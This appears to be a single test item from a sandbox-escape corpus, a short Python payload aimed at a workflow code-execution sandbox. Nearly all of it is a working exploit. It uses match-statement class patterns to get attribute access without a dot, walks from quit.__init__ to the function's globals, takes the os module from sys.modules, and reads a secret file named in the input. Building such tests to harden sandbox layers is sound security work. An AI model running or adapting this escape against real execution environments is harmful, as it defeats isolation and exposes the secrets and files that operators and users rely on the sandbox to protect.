# class: attribute access without a dot
# technique: class patterns in class patterns
# layers: analyzer, interpreter, landlock, seccomp, identity
# code: user
# witness: secret
host = _items[0]["json"]
def kind(x):
    return classmethod(lambda c: c).__get__(x)()
Quitter = kind(quit)
match [{'q': quit}]:
    case [{'q': Quitter(__init__=first)}]:
        Method = kind(first)
match [quit.__init__]:
    case [Method(__func__=function)]:
        Function = kind(function)
match function:
    case Function(__globals__=g):
        pass
os = g["sys"].modules["os"]
return [{"json": {"reached": os.read(os.open(host["secret"], 0), 4096).decode()}}]
